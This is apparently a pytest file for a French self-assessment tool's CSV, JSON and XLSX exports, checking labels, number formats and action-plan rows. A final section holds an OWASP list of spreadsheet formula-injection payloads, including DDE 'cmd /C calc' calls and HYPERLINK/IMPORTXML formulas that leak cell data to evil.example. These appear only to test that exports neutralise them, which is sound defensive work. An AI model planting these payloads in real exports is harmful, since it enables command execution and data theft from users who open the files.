"""Exports are pure bytes: read them back and check what a user would open."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import dataclass
from datetime import date
from typing import Any

import pytest
from openpyxl import load_workbook

from assessment import exports
from assessment.action_plan import STATUSES
from assessment.scoring import score
from gridfactory import choice, item, level, make_grid, number, text_q, yes_no

GRID = make_grid(
    item(
        "gouv",
        level("g1"),
        number("g2", unit="%", min=0, max=100),
        text_q("g3", horizons=["now"]),
        short_title="Gouvernance",
    ),
    item("emploi", level("e1"), yes_no("e2"), optional=True),
    systemic=[choice("s1", ["a", "b"], horizons=["now"])],
)
ANSWERS: dict[str, dict[str, Any]] = {
    "g1": {"now": 1, "y1": 2, "y3": 4},
    "g2": {"now": 12.5},
    "g3": {"now": "Statuts relus ; AG en mai"},
    "s1": {"now": "b"},
}


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM for spreadsheets"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_results_csv_has_scores_then_answers_in_french() -> None:
    report = score(GRID, ANSWERS, {"emploi"})
    rows = _read_csv(exports.results_csv(GRID, report, ANSWERS))
    assert rows[0] == [
        "Type",
        "Thème (id)",
        "Thème",
        "Question (id)",
        "Question",
        "Horizon (id)",
        "Horizon",
        "Valeur",
    ]
    scores = {(r[2], r[5]): r[7] for r in rows if r[0] == "Score"}
    assert scores[("Ensemble", "now")] == "25"
    assert scores[("Gouvernance", "y1")] == "50"
    assert scores[("Thème emploi", "now")] == "Non traité cette année"
    answers = {(r[3], r[5]): r[7] for r in rows if r[0] == "Réponse"}
    assert answers[("g1", "y3")] == "4 – Exemplaire"
    assert answers[("g2", "now")] == "12,5"
    assert answers[("g3", "now")] == "Statuts relus ; AG en mai"
    assert answers[("s1", "now")] == "B"


def test_results_json_round_trips_raw_values() -> None:
    report = score(GRID, ANSWERS)
    doc = json.loads(exports.results_json(GRID, report, ANSWERS, meta={"campagne": 2026}))
    assert doc["grid"] == {"id": "test-grid", "version": "1"}
    assert doc["meta"] == {"campagne": 2026}
    assert doc["scores"]["items"]["gouv"]["y3"] == 100.0
    assert doc["answers"]["g3"]["now"] == "Statuts relus ; AG en mai"
    assert doc["horizons"][0]["label"] == "État des lieux"
    assert doc["items"][0]["short_title"] == "Gouvernance"


@dataclass
class _Action:
    id: int
    item_id: str
    horizon_id: str | None
    title: str
    owner: str
    due_on: date | None
    status: str
    notes: str


ACTIONS = [
    _Action(1, "gouv", "y1", "Relire les statuts", "Présidente", date(2026, 6, 30), "todo", ""),
    {
        "id": 2,
        "item_id": "emploi",
        "horizon_id": "y3",
        "title": "Plan de formation",
        "owner": "DRH",
        "due_on": None,
        "status": "in_progress",
        "notes": "voir OPCO",
    },
]


def test_action_plan_csv() -> None:
    rows = _read_csv(exports.action_plan_csv(GRID, ACTIONS))
    assert rows[0] == [
        "N°",
        "Thème",
        "Objectif",
        "Action",
        "Responsable",
        "Échéance",
        "Statut",
        "Notes",
    ]
    assert rows[1] == [
        "1",
        "Gouvernance",
        "Objectif à 1 an",
        "Relire les statuts",
        "Présidente",
        "30/06/2026",
        "À faire",
        "",
    ]
    assert rows[2][1] == "Thème emploi" and rows[2][5] == "" and rows[2][6] == "En cours"


def test_action_status_labels_are_the_action_plans() -> None:
    done = [{"id": 3, "item_id": "gouv", "title": "Fini", "status": s} for s in STATUSES]
    assert [r["status"] for r in exports.action_rows(GRID, done)] == list(STATUSES.values())
    assert [r[6] for r in _read_csv(exports.action_plan_csv(GRID, done))[1:]] == [
        "À faire",
        "En cours",
        "Réalisée",
        "Abandonnée",
    ]


def test_action_plan_xlsx_is_a_real_workbook() -> None:
    data = exports.action_plan_xlsx(GRID, ACTIONS)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Plan d'action"
    assert [c.value for c in sheet[1]][:4] == ["N°", "Thème", "Objectif", "Action"]
    assert sheet["F2"].value.date() == date(2026, 6, 30)
    assert sheet["F2"].number_format == "DD/MM/YYYY"
    assert sheet["G3"].value == "En cours"
    assert sheet.freeze_panes == "A2"


def test_action_numbers_count_the_organisations_actions_not_database_ids() -> None:
    """« N° » is 1, 2, 3… in creation order, not the id (15 for a first action)."""
    plan = [
        {"id": 40, "item_id": "gouv", "title": "Troisième", "status": "done"},
        {"id": 15, "item_id": "gouv", "title": "Première", "status": "todo"},
        {"id": 16, "item_id": "emploi", "title": "Deuxième", "status": "dropped"},
    ]
    rows = _read_csv(exports.action_plan_csv(GRID, plan))[1:]
    shown = [(r[0], r[3]) for r in rows]
    assert shown == [("3", "Troisième"), ("1", "Première"), ("2", "Deuxième")]
    sheet = load_workbook(io.BytesIO(exports.action_plan_xlsx(GRID, plan))).active
    assert [(sheet.cell(i, 1).value, sheet.cell(i, 4).value) for i in (2, 3, 4)] == [
        (3, "Troisième"),
        (1, "Première"),
        (2, "Deuxième"),
    ]


def test_both_action_plan_exports_say_each_status_the_same_way() -> None:
    plan = [
        {"id": n, "item_id": "gouv", "title": f"A{n}", "status": s}
        for n, s in enumerate(STATUSES, start=1)
    ]
    from_csv = [r[6] for r in _read_csv(exports.action_plan_csv(GRID, plan))[1:]]
    sheet = load_workbook(io.BytesIO(exports.action_plan_xlsx(GRID, plan))).active
    from_xlsx = [sheet.cell(i, 7).value for i in range(2, 2 + len(STATUSES))]
    assert from_csv == from_xlsx == list(STATUSES.values())


def test_empty_title_error_names_the_field_as_the_page_does() -> None:
    """The page's field is « Action »: the error says « Action : … », not « titre »."""
    from assessment.action_plan import ActionPlanError, _check

    with pytest.raises(ActionPlanError) as refused:
        _check({"title": "   ", "item_id": "gouv"}, None)
    assert refused.value.message.startswith("Action\u00a0: ")
    assert "titre" not in refused.value.message


def test_empty_action_plan_exports_header_only() -> None:
    assert len(_read_csv(exports.action_plan_csv(GRID, []))) == 1
    sheet = load_workbook(io.BytesIO(exports.action_plan_xlsx(None, []))).active
    assert sheet.max_row == 1


def test_format_number() -> None:
    assert exports.format_number(62.0) == "62"
    assert exports.format_number(62.46) == "62,5"
    assert exports.format_number(None) == ""


# ---------------------------------------------------------------------------
# formula injection (OWASP « CSV Injection »)
# ---------------------------------------------------------------------------

OWASP_PAYLOADS = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
    "+1+2",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A10)",
    "\t=1+2",
    "\r=1+2",
    "|cmd|' /C calc'!A0",
    "%0A=1+2",
    " =1+2",
    "\uff1d1+2",
    '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
"""OWASP's payloads, and variants: every first character a spreadsheet may read
as the start of a formula."""


def _action(title: str, owner: str = "", notes: str = "") -> dict[str, object]:
    return {
        "id": 1,
        "item_id": "gouv",
        "horizon_id": "y1",
        "title": title,
        "owner": owner,
        "due_on": date(2026, 6, 30),
        "status": "todo",
        "notes": notes,
    }


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_action_plan_csv_neutralises_formulas(payload: str) -> None:
    rows = _read_csv(exports.action_plan_csv(GRID, [_action(payload, payload, payload)]))
    title, owner, notes = rows[1][3], rows[1][4], rows[1][7]
    assert title == owner == notes == "'" + payload


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_results_csv_neutralises_formulas_in_answers(payload: str) -> None:
    answers = {**ANSWERS, "g3": {"now": payload}}
    rows = _read_csv(exports.results_csv(GRID, score(GRID, answers), answers))
    (cell,) = [r[7] for r in rows if r[3] == "g3"]
    assert cell == "'" + payload
    assert all(not c or c[0] not in exports.FORMULA_TRIGGERS for r in rows for c in r)


def test_real_numbers_stay_numbers() -> None:
    grid = make_grid(item("gouv", number("n", min=-100, max=100), text_q("t")))
    answers = {"n": {"now": -12.5, "y1": -3}, "t": {"now": "-4"}}
    rows = _read_csv(exports.results_csv(grid, score(grid, answers), answers))
    values = {(r[3], r[5]): r[7] for r in rows if r[0] == "Réponse"}
    assert values[("n", "now")] == "-12,5" and values[("n", "y1")] == "-3"
    assert values[("t", "now")] == "-4"  # a plain number cannot be a formula
    assert exports.safe_cell("-4,5 €") == "'-4,5 €"
    assert exports.safe_cell("Objectif : -10 %") == "Objectif : -10 %"


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_action_plan_xlsx_has_no_formula_cell(payload: str) -> None:
    data = exports.action_plan_xlsx(GRID, [_action(payload, payload, payload)])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    for column in ("D", "E", "H"):
        cell = sheet[f"{column}2"]
        assert cell.data_type == "s" and cell.quotePrefix
        assert cell.value == payload.replace("\r", "\n")  # XML reads a bare CR as LF
    assert sheet["F2"].data_type == "d" or sheet["F2"].is_date


def test_text_that_is_not_valid_unicode_does_not_break_exports() -> None:
    """Rows stored before the input rule may hold a lone surrogate or a control character."""
    answers = {**ANSWERS, "g3": {"now": "a\ud800b\x01"}}
    report = score(GRID, answers)
    assert "a?b" in exports.results_csv(GRID, report, answers).decode("utf-8-sig")
    assert json.loads(exports.results_json(GRID, report, answers))["answers"]["g3"]["now"]
    data = exports.action_plan_xlsx(GRID, [_action("a\ud800b\x01")])
    assert load_workbook(io.BytesIO(data)).active["D2"].value == "a?b"


def test_results_xlsx_has_the_csv_rows_as_text_cells() -> None:
    answers = {**ANSWERS, "g3": {"now": '=HYPERLINK("http://x";"clic")'}}
    report = score(GRID, answers)
    sheet = load_workbook(io.BytesIO(exports.results_xlsx(GRID, report, answers))).active
    assert sheet is not None
    rows = [[c.value or "" for c in row] for row in sheet.iter_rows()]
    header, table = exports.results_table(GRID, report, answers)
    assert rows == [[str(v) for v in r] for r in [header, *table]]
    # the same rows as the CSV, where a text that could start a formula gets a leading '
    csv_rows = _read_csv(exports.results_csv(GRID, report, answers))
    assert [[v.removeprefix("'") for v in r] for r in csv_rows] == rows
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row if c.value)
